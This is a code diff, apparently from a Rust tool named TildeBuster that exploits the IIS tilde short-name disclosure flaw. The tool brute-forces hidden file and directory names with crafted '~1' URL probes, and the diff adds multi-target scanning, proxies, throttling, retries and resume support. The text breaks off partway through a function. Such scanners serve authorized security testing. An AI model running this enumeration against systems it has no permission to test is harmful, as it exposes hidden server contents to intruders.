@@ -1,20 +1,28 @@
 use futures::Stream;
 use hyper::{
-    client::HttpConnector,
+    http::response::Parts,
     rt::{self, Future},
-    Body, Client, Request,
+    Body, Chunk, Client, Request,
 };
 use hyper_tls::{self, HttpsConnector};
-use native_tls;
 use std::boxed::Box;
+use std::collections::{HashMap, VecDeque};
 use std::sync::mpsc::channel;
 use std::sync::mpsc::Sender;
-use std::time::SystemTime;
+use std::time::{Duration, SystemTime};
 use indicatif::{ProgressBar, ProgressStyle};
 use futures::sync::mpsc;
 
+use crate::matcher::{format_headers, MatchTarget, Matcher, NumericRange};
+use crate::output::{JsonlWriter, OutputFormat};
+use crate::proxy::{build_client, ProxyConnector, Replayer};
+use crate::resume::{is_interrupted, ResumeState};
+use crate::retry::{send_request, RequestError, RetryPolicy};
+use crate::targets;
+use crate::throttle::{is_throttled, parse_retry_after, HostLimiter, Throttle, MAX_REQUEUES};
+
 pub mod result_processor;
-use result_processor::{FSObject, SingleTildeScanResult, TildeRequest, TildeScanProcessor};
+use result_processor::{FSObject, Probe, SingleTildeScanResult, TildeRequest, TildeScanProcessor};
 
 #[derive(Debug, Clone)]
 pub struct TildeBuster {
@@ -25,10 +33,22 @@ pub struct TildeBuster {
     pub user_agent: String,
     pub http_headers: Vec<(String, String)>,
     pub url: String,
+    pub targets: Vec<String>,
+    pub host_threads: usize,
     pub no_progress_bar: bool,
     pub exit_on_connection_errors: bool,
     pub output: String,
+    pub output_format: OutputFormat,
     pub extension: Option<String>,
+    pub matcher: Matcher,
+    pub proxy: String,
+    pub replay_proxy: String,
+    pub requeue: bool,
+    pub rate: u64,
+    pub delay: Option<NumericRange>,
+    pub timeout: u64,
+    pub retries: usize,
+    pub resume: ResumeState,
 }
 
 #[derive(Debug, Clone, PartialEq)]
@@ -50,15 +70,7 @@ pub enum IISVersion {
 impl TildeBuster {
     pub fn run(mut self) {
         let (tx, rx) = channel::<SingleTildeScanResult>();
-        let mut tls_connector_builder = native_tls::TlsConnector::builder();
-        tls_connector_builder.danger_accept_invalid_certs(self.ignore_certificate);
-        let tls_connector = tls_connector_builder
-            .build()
-            .expect("TLS initialization failed");
-        let mut http_connector = HttpConnector::new(self.n_threads);
-        http_connector.enforce_http(false);
-        let https_connector = HttpsConnector::from((http_connector, tls_connector));
-        let client = Client::builder().build(https_connector);
+        let client = build_client(self.n_threads, self.ignore_certificate, &self.proxy);
         let mut current_numbers_of_request = 0;
         let chars = "abcdefghijklmnopqrstuvwxyz1234567890-_"
             .split("")
@@ -72,7 +84,16 @@ impl TildeBuster {
             .collect::<Vec<String>>();
         let start_time = SystemTime::now();
         let mut result_processor = TildeScanProcessor::new();
+        let resume = self.resume.clone();
+        let mut replay = VecDeque::from(resume.pending::<SingleTildeScanResult>());
+        let mut pending = Vec::new();
         let output = self.output.clone();
+        let output_format = self.output_format;
+        let mut jsonl_writer = JsonlWriter::new(&self.output, self.output_format);
+        for result in resume.results::<SingleTildeScanResult>() {
+            jsonl_writer.write(&result);
+            result_processor.maybe_add_result(result);
+        }
         let no_progress_bar = self.no_progress_bar;
         let exit_on_connection_errors = self.exit_on_connection_errors;
         let bar = if self.no_progress_bar {
@@ -82,45 +103,71 @@ impl TildeBuster {
         };
         let tx1 = tx.clone();
         let client1 = client.clone();
+        let replayer = Replayer::new(self.n_threads, self.ignore_certificate, &self.replay_proxy);
+        let policy = RetryPolicy::new(self.timeout, self.retries);
+        let mut failed_requests = Vec::new();
+        let requeue = self.requeue;
+        let mut requeued = HashMap::new();
         let chars1 = chars.clone();
         bar.set_style(
             ProgressStyle::default_spinner().template("{spinner} [{elapsed_precise}] {msg}"),
         );
 
-        if !self.url.ends_with("/") {
-            self.url = format!("{}/", self.url);
+        if self.targets.is_empty() {
+            self.targets = vec![self.url.clone()];
         }
 
-        let base_request = TildeRequest {
-            url: self.url.clone(),
-            http_method: self.http_method.clone(),
-            http_headers: self.http_headers.clone(),
-            http_body: self.http_body.clone(),
-            user_agent: self.user_agent.clone(),
-            filename: "".to_owned(),
-            extension: "".to_owned(),
-            redirect_extension: self.extension.clone(),
-            duplicate_index: "1".to_owned(),
-        };
+        for target in self.targets.iter_mut() {
+            if !target.ends_with("/") {
+                *target = format!("{}/", target);
+            }
+        }
 
+        let multiple_targets = self.targets.len() > 1;
         let (tx_futures, rx_futures) =
-            mpsc::unbounded::<Box<dyn Future<Item = (), Error = ()> + Send + 'static>>();
+            mpsc::unbounded::<(String, Box<dyn Future<Item = (), Error = ()> + Send + 'static>)>();
+        let throttle = Throttle::new(self.rate, self.delay.clone());
+        let controller = throttle.clone();
+        let limiter = HostLimiter::new(self.host_threads);
         let stream_of_futures = rx_futures
+            .map(move |(host, request_future)| throttle.run(limiter.run(&host, request_future)))
             .buffer_unordered(self.n_threads)
             .for_each(Ok)
             .map_err(|err| eprintln!("Err {:?}", err));
 
         std::thread::spawn(|| rt::run(stream_of_futures));
 
-        tx_futures
-            .unbounded_send(Box::new(TildeBuster::_run_checks(
-                tx1.clone(),
-                client1.clone(),
-                base_request,
-            )))
-            .unwrap();
+        let mut spawned_futures = replay.len();
+        if replay.is_empty() {
+            for target in self.targets.iter() {
+                let request = TildeRequest {
+                    url: target.clone(),
+                    http_method: self.http_method.clone(),
+                    http_headers: self.http_headers.clone(),
+                    http_body: self.http_body.clone(),
+                    user_agent: self.user_agent.clone(),
+                    filename: "".to_owned(),
+                    extension: "".to_owned(),
+                    redirect_extension: self.extension.clone(),
+                    duplicate_index: "1".to_owned(),
+                };
+
+                tx_futures
+                    .unbounded_send((
+                        targets::host(&request.url),
+                        Box::new(TildeBuster::_run_checks(
+                            tx1.clone(),
+                            client1.clone(),
+                            policy,
+                            self.matcher.clone(),
+                            request,
+                        )),
+                    ))
+                    .unwrap();
+            }
 
-        let mut spawned_futures = 1;
+            spawned_futures = self.targets.len();
+        }
 
         while spawned_futures > 0 {
             debug!("spawned_futures: {}", spawned_futures);
@@ -139,17 +186,61 @@ impl TildeBuster {
                 bar.set_message("warming up...")
             }
 
-            let msg = match rx.recv() {
-                Ok(msg) => msg,
-                Err(_err) => {
-                    error!("{:?}", _err);
-                    break;
-                }
+            let (msg, replayed) = match replay.pop_front() {
+                Some(msg) => (msg, true),
+                None => match rx.recv() {
+                    Ok(msg) => (msg, false),
+                    Err(_err) => {
+                        error!("{:?}", _err);
+                        break;
+                    }
+                },
+            };
+
+            if msg.error.is_none() {
+                controller.observe(false, None);
+            }
+
+            let name_prefix = if multiple_targets {
+                msg.request.url.clone()
+            } else {
+                String::new()
             };
 
             match &msg.error {
                 Some(e) => {
+                    if let FSObject::Throttled(retry_after, probe) = msg.kind {
+                        controller.observe(true, retry_after.map(Duration::from_secs));
+                        if requeue {
+                            let requeues = requeued.entry((probe, msg.request.clone())).or_insert(0);
+                            if *requeues < MAX_REQUEUES && !is_interrupted() {
+                                *requeues += 1;
+                                debug!("requeueing {}{}", msg.request.url, msg.request.filename);
+                                tx_futures
+                                    .unbounded_send((
+                                        targets::host(&msg.request.url),
+                                        TildeBuster::resend(
+                                            tx1.clone(),
+                                            client1.clone(),
+                                            policy,
+                                            self.matcher.clone(),
+                                            probe,
+                                            msg.request,
+                                        ),
+                                    ))
+                                    .unwrap();
+                                spawned_futures += 1;
+                                continue;
+                            }
+                        }
+                    }
+
                     error!("{} - {:?}", msg.request.url, e);
+                    failed_requests.push(format!("{}{}", msg.request.url, msg.request.filename));
+                    if let FSObject::Throttled(..) = msg.kind {
+                        continue;
+                    }
+
                     if current_numbers_of_request == 1 || exit_on_connection_errors {
                         warn!("Check connectivity to the target");
                         break;
@@ -158,32 +249,42 @@ impl TildeBuster {
                     continue;
                 }
                 None => match msg.kind {
+                    FSObject::Throttled(..) => (),
                     FSObject::NotVulnerable => {
-                        error!("The target doesn't seem to be vulnerable");
+                        error!("{} doesn't seem to be vulnerable", msg.request.url);
                         warn!("Try setting HTTP method to OPTIONS or add an extension like aspx");
                     }
                     FSObject::Vulnerable => {
-                        for c in chars.iter() {
-                            let request = TildeRequest {
-                                url: self.url.clone(),
-                                http_method: self.http_method.clone(),
-                                http_headers: self.http_headers.clone(),
-                                http_body: self.http_body.clone(),
-                                user_agent: self.user_agent.clone(),
-                                filename: c.to_owned(),
-                                extension: "".to_owned(),
-                                redirect_extension: self.extension.clone(),
-                                duplicate_index: "1".to_owned(),
-                            };
-
-                            tx_futures
-                                .unbounded_send(Box::new(TildeBuster::_brute_filename(
-                                    tx1.clone(),
-                                    client1.clone(),
-                                    request,
-                                )))
-                                .unwrap();
-                            spawned_futures = spawned_futures + 1;
+                        if is_interrupted() {
+                            pending.push(msg.clone());
+                        } else {
+                            for c in chars.iter() {
+                                let request = TildeRequest {
+                                    url: msg.request.url.clone(),
+                                    http_method: self.http_method.clone(),
+                                    http_headers: self.http_headers.clone(),
+                                    http_body: self.http_body.clone(),
+                                    user_agent: self.user_agent.clone(),
+                                    filename: c.to_owned(),
+                                    extension: "".to_owned(),
+                                    redirect_extension: self.extension.clone(),
+                                    duplicate_index: "1".to_owned(),
+                                };
+
+                                tx_futures
+                                    .unbounded_send((
+                                        targets::host(&request.url),
+                                        Box::new(TildeBuster::_brute_filename(
+                                            tx1.clone(),
+                                            client1.clone(),
+                                            policy,
+                                            self.matcher.clone(),
+                                            request,
+                                        )),
+                                    ))
+                                    .unwrap();
+                                spawned_futures = spawned_futures + 1;
+                            }
                         }
                     }
                     FSObject::NotExisting => {
@@ -192,177 +293,245 @@ impl TildeBuster {
                     FSObject::DuplicateFile => {
                         if no_progress_bar {
                             println!(
-                                "File\t\t{}~{}.{}",
+                                "File\t\t{}{}~{}.{}",
+                                name_prefix,
                                 msg.request.filename,
                                 msg.request.duplicate_index,
                                 msg.request.extension,
                             );
                         } else {
                             bar.println(format!(
-                                "File\t\t{}~{}.{}",
+                                "File\t\t{}{}~{}.{}",
+                                name_prefix,
                                 msg.request.filename,
                                 msg.request.duplicate_index,
                                 msg.request.extension,
                             ));
                         }
 
+                        TildeBuster::replay(&replayer, &msg.request, &TildeBuster::duplicate_url(&msg.request));
+                        jsonl_writer.write(&msg);
                         result_processor.maybe_add_result(msg);
                     }
                     FSObject::DuplicateDirectory => {
                         if no_progress_bar {
                             println!(
-                                "Directory\t{}~{}",
+                                "Directory\t{}{}~{}",
+                                name_prefix,
                                 msg.request.filename, msg.request.duplicate_index,
                             );
                         } else {
                             bar.println(format!(
-                                "Directory\t{}~{}",
+                                "Directory\t{}{}~{}",
+                                name_prefix,
                                 msg.request.filename, msg.request.duplicate_index,
                             ));
                         }
 
+                        TildeBuster::replay(&replayer, &msg.request, &TildeBuster::duplicate_url(&msg.request));
+                        jsonl_writer.write(&msg);
                         result_processor.maybe_add_result(msg);
                     }
                     FSObject::File => {
-                        if no_progress_bar {
+                        if replayed {
+                            trace!("{:?}", msg);
+                        } else if no_progress_bar {
                             println!(
-                                "File\t\t{}~{}.{}",
+                                "File\t\t{}{}~{}.{}",
+                                name_prefix,
                                 msg.request.filename,
                                 msg.request.duplicate_index,
                                 msg.request.extension,
                             );
                         } else {
                             bar.println(format!(
-                                "File\t\t{}~{}.{}",
+                                "File\t\t{}{}~{}.{}",
+                                name_prefix,
                                 msg.request.filename,
                                 msg.request.duplicate_index,
                                 msg.request.extension,
                             ));
                         }
 
-                        for c in chars_duplicate.iter() {
-                            let mut request = msg.request.clone();
-                            request.duplicate_index = c.clone();
-                            tx_futures
-                                .unbounded_send(Box::new(TildeBuster::_brute_duplicate(
-                                    tx1.clone(),
-                                    client1.clone(),
-                                    request,
-                                )))
-                                .unwrap();
-                            spawned_futures = spawned_futures + 1;
+                        if is_interrupted() {
+                            pending.push(msg.clone());
+                        } else {
+                            for c in chars_duplicate.iter() {
+                                let mut request = msg.request.clone();
+                                request.duplicate_index = c.clone();
+                                tx_futures
+                                    .unbounded_send((
+                                        targets::host(&request.url),
+                                        Box::new(TildeBuster::_brute_duplicate(
+                                            tx1.clone(),
+                                            client1.clone(),
+                                            policy,
+                                            self.matcher.clone(),
+                                            request,
+                                        )),
+                                    ))
+                                    .unwrap();
+                                spawned_futures = spawned_futures + 1;
+                            }
                         }
 
-                        result_processor.maybe_add_result(msg);
+                        if !replayed {
+                            TildeBuster::replay(&replayer, &msg.request, &TildeBuster::extension_url(&msg.request));
+                            jsonl_writer.write(&msg);
+                            result_processor.maybe_add_result(msg);
+                        }
                     }
                     FSObject::Directory => {
-                        if no_progress_bar {
+                        if replayed {
+                            trace!("{:?}", msg);
+                        } else if no_progress_bar {
                             println!(
-                                "Directory\t{}~{}",
+                                "Directory\t{}{}~{}",
+                                name_prefix,
                                 msg.request.filename, msg.request.duplicate_index
                             );
                         } else {
                             bar.println(format!(
-                                "Directory\t{}~{}",
+                                "Directory\t{}{}~{}",
+                                name_prefix,
                                 msg.request.filename, msg.request.duplicate_index
                             ));
                         }
 
-                        for c in chars_duplicate.iter() {
-                            let mut request = msg.request.clone();
-                            request.duplicate_index = c.clone();
-                            tx_futures
-                                .unbounded_send(Box::new(TildeBuster::_brute_duplicate(
-                                    tx1.clone(),
-                                    client1.clone(),
-                                    request,
-                                )))
-                                .unwrap();
-                            spawned_futures = spawned_futures + 1;
+                        if is_interrupted() {
+                            pending.push(msg.clone());
+                        } else {
+                            for c in chars_duplicate.iter() {
+                                let mut request = msg.request.clone();
+                                request.duplicate_index = c.clone();
+                                tx_futures
+                                    .unbounded_send((
+                                        targets::host(&request.url),
+                                        Box::new(TildeBuster::_brute_duplicate(
+                                            tx1.clone(),
+                                            client1.clone(),
+                                            policy,
+                                            self.matcher.clone(),
+                                            request,
+                                        )),
+                                    ))
+                                    .unwrap();
+                                spawned_futures = spawned_futures + 1;
+                            }
                         }
 
-                        result_processor.maybe_add_result(msg);
+                        if !replayed {
+                            TildeBuster::replay(&replayer, &msg.request, &TildeBuster::directory_url(&msg.request));
+                            jsonl_writer.write(&msg);
+                            result_processor.maybe_add_result(msg);
+                        }
                     }
                     FSObject::BruteExtension => {
-                        for c in chars1.iter() {
-                            let mut request = msg.request.clone();
-                            request.extension = format!("{}{}", request.extension, c);
-                            tx_futures
-                                .unbounded_send(Box::new(TildeBuster::_brute_extension(
-                                    tx1.clone(),
-                                    client1.clone(),
-                                    request,
-                                )))
-                                .unwrap();
-                            spawned_futures = spawned_futures + 1;
+                        if is_interrupted() {
+                            pending.push(msg.clone());
+                        } else {
+                            for c in chars1.iter() {
+                                let mut request = msg.request.clone();
+                                request.extension = format!("{}{}", request.extension, c);
+                                tx_futures
+                                    .unbounded_send((
+                                        targets::host(&request.url),
+                                        Box::new(TildeBuster::_brute_extension(
+                                            tx1.clone(),
+                                            client1.clone(),
+                                            policy,
+                                            self.matcher.clone(),
+                                            request,
+                                        )),
+                                    ))
+                                    .unwrap();
+                                spawned_futures = spawned_futures + 1;
+                            }
                         }
                     }
                     FSObject::BruteFilename => {
-                        for c in chars1.iter() {
-                            let mut request = msg.request.clone();
-                            request.filename = format!("{}{}", request.filename, c);
+                        if is_interrupted() {
+                            pending.push(msg.clone());
+                        } else {
+                            for c in chars1.iter() {
+                                let mut request = msg.request.clone();
+                                request.filename = format!("{}{}", request.filename, c);
+                                tx_futures
+                                    .unbounded_send((
+                                        targets::host(&request.url),
+                                        Box::new(TildeBuster::_brute_filename(
+                                            tx1.clone(),
+                                            client1.clone(),
+                                            policy,
+                                            self.matcher.clone(),
+                                            request,
+                                        )),
+                                    ))
+                                    .unwrap();
+                                spawned_futures = spawned_futures + 1;
+                            }
+                        }
+                    }
+                    FSObject::CheckIfDirectory => {
+                        if is_interrupted() {
+                            pending.push(msg);
+                        } else {
                             tx_futures
-                                .unbounded_send(Box::new(TildeBuster::_brute_filename(
-                                    tx1.clone(),
-                                    client1.clone(),
-                                    request,
-                                )))
+                                .unbounded_send((
+                                    targets::host(&msg.request.url),
+                                    Box::new(TildeBuster::_check_if_directory(
+                                        tx1.clone(),
+                                        client1.clone(),
+                                        policy,
+                                        self.matcher.clone(),
+                                        msg.request,
+                                    )),
+                                ))
                                 .unwrap();
                             spawned_futures = spawned_futures + 1;
                         }
                     }
-                    FSObject::CheckIfDirectory => {
-                        tx_futures
-                            .unbounded_send(Box::new(TildeBuster::_check_if_directory(
-                                tx1.clone(),
-                                client1.clone(),
-                                msg.request,
-                            )))
-                            .unwrap();
-                        spawned_futures = spawned_futures + 1;
-                    }
                 },
             }
         }
 
         bar.finish();
+        replayer.finish();
+        if !failed_requests.is_empty() {
+            println!("{}", crate::banner::failed_requests(&failed_requests));
+        }
         println!("{}", crate::banner::ending_time());
 
-        if !output.is_empty() {
+        if !pending.is_empty() {
+            let state = ResumeState {
+                pending: serde_json::to_value(&pending).unwrap(),
+                results: serde_json::to_value(&result_processor.results).unwrap(),
+                ..resume
+            };
+            state.save();
+            println!("{}", crate::banner::interrupted(&state.path));
+        }
+
+        if !output.is_empty() && output_format == OutputFormat::Json {
             result_processor.save_tilde_results(&output);
         }
     }
 
     fn _brute_extension(
         tx: Sender<SingleTildeScanResult>,
-        client: Client<HttpsConnector<HttpConnector>>,
+        client: Client<HttpsConnector<ProxyConnector>>,
+        policy: RetryPolicy,
+        matcher: Matcher,
         request: TildeRequest,
     ) -> impl Future<Item = (), Error = ()> {
-        let magic_suffix = match &request.redirect_extension {
-            Some(v) => format!("/.{}", v),
-            None => "".to_owned(),
-        };
-
-        let vuln_url = format!(
-            "{}{}~1.{}{}{}",
-            request.url,
-            request.filename,
-            request.extension,
-            "%3f".repeat(3 - request.extension.len()),
-            magic_suffix,
-        );
-        let hyper_request = Request::builder()
-            .header("User-Agent", &request.user_agent[..])
-            .method(&request.http_method[..])
-            .uri(&vuln_url.parse::<hyper::Uri>().unwrap())
-            .body(Body::from(request.http_body.clone()))
-            .expect("Request builder");
-
-        client
-            .request(hyper_request)
-            .and_then(move |res| {
-                match (res.status(), request.extension.len()) {
-                    (hyper::StatusCode::NOT_FOUND, 3) => {
+        let tx_err = tx.clone();
+        let vuln_url = TildeBuster::extension_url(&request);
+        let request_err = request.clone();
+
+        TildeBuster::probe(client, policy, matcher, &request, &vuln_url)
+            .and_then(move |hit| {
+                match (hit, request.extension.len()) {
+                    (true, 3) => {
                         let res = SingleTildeScanResult {
                             kind: FSObject::File,
                             error: None,
@@ -370,7 +539,7 @@ impl TildeBuster {
                         };
                         tx.send(res).unwrap();
                     }
-                    (hyper::StatusCode::NOT_FOUND, _) => {
+                    (true, _) => {
                         let res = SingleTildeScanResult {
                             kind: FSObject::BruteExtension,
                             error: None,
@@ -378,7 +547,7 @@ impl TildeBuster {
                         };
                         tx.send(res).unwrap();
                     }
-                    (hyper::StatusCode::BAD_REQUEST, _) | _ => {
+                    (false, _) => {
                         let res = SingleTildeScanResult {
                             kind: FSObject::NotExisting,
                             error: None,
@@ -395,17 +564,21 @@ impl TildeBuster {
 
                 Ok(())
             })
-            .or_else(|e| {
+            .or_else(move |e| {
                 warn!("Got HTTP error when bruteforcing the extension: {}", e);
+                TildeBuster::send_error(&tx_err, request_err, Probe::Extension, e);
                 Ok(())
             })
     }
 
     fn _brute_filename(
         tx: Sender<SingleTildeScanResult>,
-        client: Client<HttpsConnector<HttpConnector>>,
+        client: Client<HttpsConnector<ProxyConnector>>,
+        policy: RetryPolicy,
+        matcher: Matcher,
         request: TildeRequest,
     ) -> impl Future<Item = (), Error = ()> {
+        let tx_err = tx.clone();
         let magic_suffix = match &request.redirect_extension {
             Some(v) => format!("*~1*/.{}", v),
             None => "*~1*".to_owned(),
@@ -419,27 +592,14 @@ impl TildeBuster {
         let vuln_url = format!("{}{}{}", request.url, request.filename, magic_suffix);
         let vuln_url_short = format!("{}{}{}", request.url, request.filename, magic_suffix_short);
 
-        let hyper_request = Request::builder()
-            .header("User-Agent", &request.user_agent[..])
-            .method(&request.http_method[..])
-            .uri(&vuln_url.parse::<hyper::Uri>().unwrap())
-            .body(Body::from(request.http_body.clone()))
-            .expect("Request builder");
-
-        let hyper_request_short = Request::builder()
-            .header("User-Agent", &request.user_agent[..])
-            .method(&request.http_method[..])
-            .uri(&vuln_url_short.parse::<hyper::Uri>().unwrap())
-            .body(Body::from(request.http_body.clone()))
-            .expect("Request builder");
-
-        let req = client.request(hyper_request);
-        let req_short = client.request(hyper_request_short);
+        let request_err = request.clone();
+        let req = TildeBuster::probe(client.clone(), policy, matcher.clone(), &request, &vuln_url);
+        let req_short = TildeBuster::probe(client, policy, matcher, &request, &vuln_url_short);
 
         req.join(req_short)
-            .and_then(move |(res, res_short)| {
-                match (res.status(), res_short.status()) {
-                    (_, hyper::StatusCode::NOT_FOUND) => {
+            .and_then(move |(hit, hit_short)| {
+                match (hit, hit_short) {
+                    (_, true) => {
                         let res = SingleTildeScanResult {
                             kind: FSObject::CheckIfDirectory,
                             error: None,
@@ -453,7 +613,7 @@ impl TildeBuster {
                         };
                         tx.send(res).unwrap();
                     }
-                    (hyper::StatusCode::NOT_FOUND, _) => {
+                    (true, _) => {
                         let res = SingleTildeScanResult {
                             kind: FSObject::BruteFilename,
                             error: None,
@@ -461,7 +621,7 @@ impl TildeBuster {
                         };
                         tx.send(res).unwrap();
                     }
-                    (hyper::StatusCode::BAD_REQUEST, _) | _ => {
+                    (false, _) => {
                         let res = SingleTildeScanResult {
                             kind: FSObject::NotExisting,
                             error: None,
@@ -478,34 +638,28 @@ impl TildeBuster {
 
                 Ok(())
             })
-            .or_else(|e| {
+            .or_else(move |e| {
                 warn!("Got HTTP error when bruteforcing the filename: {}", e);
+                TildeBuster::send_error(&tx_err, request_err, Probe::Filename, e);
                 Ok(())
             })
     }
 
     fn _check_if_directory(
         tx: Sender<SingleTildeScanResult>,
-        client: Client<HttpsConnector<HttpConnector>>,
+        client: Client<HttpsConnector<ProxyConnector>>,
+        policy: RetryPolicy,
+        matcher: Matcher,
         request: TildeRequest,
     ) -> impl Future<Item = (), Error = ()> {
-        let magic_suffix = match &request.redirect_extension {
-            Some(v) => format!("*~1/.{}", v),
-            None => "*~1".to_owned(),
-        };
-        let vuln_url = format!("{}{}{}", request.url, request.filename, magic_suffix);
-        let hyper_request = Request::builder()
-            .header("User-Agent", &request.user_agent[..])
-            .method(&request.http_method[..])
-            .uri(vuln_url.parse::<hyper::Uri>().unwrap())
-            .body(Body::from(request.http_body.clone()))
-            .expect("Request builder");
-
-        client
-            .request(hyper_request)
-            .and_then(move |res| {
-                match res.status() {
-                    hyper::StatusCode::NOT_FOUND => {
+        let tx_err = tx.clone();
+        let vuln_url = TildeBuster::directory_url(&request);
+        let request_err = request.clone();
+
+        TildeBuster::probe(client, policy, matcher, &request, &vuln_url)
+            .and_then(move |hit| {
+                match hit {
+                    true => {
                         let res = SingleTildeScanResult {
                             kind: FSObject::Directory,
                             error: None,
@@ -513,7 +667,7 @@ impl TildeBuster {
                         };
                         tx.send(res).unwrap();
                     }
-                    hyper::StatusCode::BAD_REQUEST | _ => {
+                    false => {
                         let res = SingleTildeScanResult {
                             kind: FSObject::BruteExtension,
                             error: None,
@@ -530,26 +684,49 @@ impl TildeBuster {
 
                 Ok(())
             })
-            .or_else(|e| {
+            .or_else(move |e| {
                 warn!("Got HTTP error when checking if directory: {}", e);
+                TildeBuster::send_error(&tx_err, request_err, Probe::Directory, e);
                 Ok(())
             })
     }
 
+    fn resend(
+        tx: Sender<SingleTildeScanResult>,
+        client: Client<HttpsConnector<ProxyConnector>>,
+        policy: RetryPolicy,
+        matcher: Matcher,
+        probe: Probe,
+        request: TildeRequest,
+    ) -> Box<dyn Future<Item = (), Error = ()> + Send + 'static> {
+        match probe {
+            Probe::Checks => Box::new(TildeBuster::_run_checks(tx, client, policy, matcher, request)),
+            Probe::Filename => {
+                Box::new(TildeBuster::_brute_filename(tx, client, policy, matcher, request))
+            }
+            Probe::Directory => {
+                Box::new(TildeBuster::_check_if_directory(tx, client, policy, matcher, request))
+            }
+            Probe::Extension => {
+                Box::new(TildeBuster::_brute_extension(tx, client, policy, matcher, request))
+            }
+            Probe::Duplicate => {
+                Box::new(TildeBuster::_brute_duplicate(tx, client, policy, matcher, request))
+            }
+        }
+    }
+
     pub fn check_iis_version(
-        client: &Client<HttpsConnector<HttpConnector>>,
+        client: &Client<HttpsConnector<ProxyConnector>>,
+        policy: RetryPolicy,
         request: TildeRequest,
-    ) -> impl Future<Item = IISVersion, Error = hyper::Error> {
-        let hyper_request = Request::builder()
-            .header("User-Agent", &request.user_agent[..])
-            .method(&request.http_method[..])
-            .uri(request.url.parse::<hyper::Uri>().unwrap())
-            .body(Body::from(request.http_body.clone()))
-            .expect("Request builder");
+    ) -> impl Future<Item = IISVersion, Error = RequestError> {
+        let uri = request.url.parse::<hyper::Uri>().unwrap();
 
-        client
-            .request(hyper_request)
-            .and_then(move |res| Ok(TildeBuster::map_iis_version(res.headers())))
+        send_request(client.clone(), policy, move || {
+            TildeBuster::build_hyper_request(&request, &uri)
+        })
+        .map(|(parts, _, _)| TildeBuster::map_iis_version(&parts.headers))
     }
 
     pub fn map_iis_version(headers: &hyper::HeaderMap) -> IISVersion {
@@ -573,10 +750,12 @@ impl TildeBuster {
     }
 
     pub fn check_if_vulnerable(
-        client: &Client<HttpsConnector<HttpConnector>>,
+        client: &Client<HttpsConnector<ProxyConnector>>,
+        policy: RetryPolicy,
+        matcher: Matcher,
         request: TildeRequest,
         _version: IISVersion,
-    ) -> impl Future<Item = bool, Error = hyper::Error> {
+    ) -> impl Future<Item = bool, Error = RequestError> {
         let magic_suffix = match &request.redirect_extension {
             Some(v) => format!("*~1*/.{}", v),
             None => "*~1*".to_owned(),
@@ -587,47 +766,9 @@ impl TildeBuster {
         };
         let vuln_url = format!("{}{}", request.url, magic_suffix);
         let not_existing_url = format!("{}{}", request.url, not_existing_suffix);
-        let hyper_request = Request::builder()
-            .header("User-Agent", &request.user_agent[..])
-            .method(&request.http_method[..])
-            .uri(vuln_url.parse::<hyper::Uri>().unwrap())
-            .body(Body::from(request.http_body.clone()))
-            .expect("Request builder");
-
-        let not_existing_hyper_request = Request::builder()
-            .header("User-Agent", &request.user_agent[..])
-            .method(&request.http_method[..])
-            .uri(not_existing_url.parse::<hyper::Uri>().unwrap())
-            .body(Body::from(request.http_body.clone()))
-            .expect("Request builder");
-
-        let fut1 = client
-            .request(hyper_request)
-            .and_then(|res| match res.status() {
-                hyper::StatusCode::NOT_FOUND => Ok(true),
-                hyper::StatusCode::BAD_REQUEST => Ok(false),
-                _ => {
-                    warn!(
-                        "Got invalid HTTP status code when checking if vulnerable: {}",
-                        res.status()
-                    );
-                    Ok(false)
-                }
-            });
-
-        let fut2 = client
-            .request(not_existing_hyper_request)
-            .and_then(|res| match res.status() {
-                hyper::StatusCode::NOT_FOUND => Ok(true),
-                hyper::StatusCode::BAD_REQUEST => Ok(false),
-                _ => {
-                    warn!(
-                        "Got invalid HTTP status code when checking if vulnerable: {}",
-                        res.status()
-                    );
-                    Ok(false)
-                }
-            });
+        let fut1 = TildeBuster::probe(client.clone(), policy, matcher.clone(), &request, &vuln_url);
+        let fut2 =
+            TildeBuster::probe(client.clone(), policy, matcher, &request, &not_existing_url);
 
         fut1.join(fut2).and_then(|res| match res {
             (true, false) => Ok(true),
@@ -637,14 +778,21 @@ impl TildeBuster {
 
     pub fn _run_checks(
         tx: Sender<SingleTildeScanResult>,
-        client: Client<HttpsConnector<HttpConnector>>,
+        client: Client<HttpsConnector<ProxyConnector>>,
+        policy: RetryPolicy,
+        matcher: Matcher,
         request: TildeRequest,
     ) -> impl Future<Item = (), Error = ()> {
-        TildeBuster::check_iis_version(&client, request.clone())
+        let tx_err = tx.clone();
+        let request_err = request.clone();
+
+        TildeBuster::check_iis_version(&client, policy, request.clone())
             .and_then(move |version| {
                 futures::future::ok(version.clone())
                     .join(TildeBuster::check_if_vulnerable(
                         &client.clone(),
+                        policy,
+                        matcher,
                         request.clone(),
                         version,
                     ))
@@ -668,48 +816,28 @@ impl TildeBuster {
                         Ok(())
                     })
             })
-            .or_else(|e| {
+            .or_else(move |e| {
                 warn!("Got HTTP error when running checks: {}", e);
+                TildeBuster::send_error(&tx_err, request_err, Probe::Checks, e);
                 Ok(())
             })
     }
 
     pub fn _brute_duplicate(
         tx: Sender<SingleTildeScanResult>,
-        client: Client<HttpsConnector<HttpConnector>>,
+        client: Client<HttpsConnector<ProxyConnector>>,
+        policy: RetryPolicy,
+        matcher: Matcher,
         request: TildeRequest,
     ) -> impl Future<Item = (), Error = ()> {
-        let vuln_url = match (&request.extension.len(), &request.redirect_extension) {
-            (0, Some(v)) => format!(
-                "{}{}~{}/.{}",
-                request.url, request.filename, request.duplicate_index, v,
-            ),
-            (0, None) => format!(
-                "{}{}~{}",
-                request.url, request.filename, request.duplicate_index,
-            ),
-            (_, Some(v)) => format!(
-                "{}{}~{}.{}/.{}",
-                request.url, request.filename, request.duplicate_index, request.extension, v,
-            ),
-            (_, None) => format!(
-                "{}{}~{}.{}",
-                request.url, request.filename, request.duplicate_index, request.extension,
-            ),
-        };
-
-        let hyper_request = Request::builder()
-            .header("User-Agent", &request.user_agent[..])
-            .method(&request.http_method[..])
-            .uri(&vuln_url.parse::<hyper::Uri>().unwrap())
-            .body(Body::from(request.http_body.clone()))
-            .expect("Request builder");
-
-        client
-            .request(hyper_request)
-            .and_then(move |res| {
-                match (res.status(), request.extension.len()) {
-                    (hyper::StatusCode::NOT_FOUND, 3) => {
+        let tx_err = tx.clone();
+        let vuln_url = TildeBuster::duplicate_url(&request);
+        let request_err = request.clone();
+
+        TildeBuster::probe(client, policy, matcher, &request, &vuln_url)
+            .and_then(move |hit| {
+                match (hit, request.extension.len()) {
+                    (true, 3) => {
                         let res = SingleTildeScanResult {
                             kind: FSObject::DuplicateFile,
                             error: None,
@@ -717,7 +845,7 @@ impl TildeBuster {
                         };
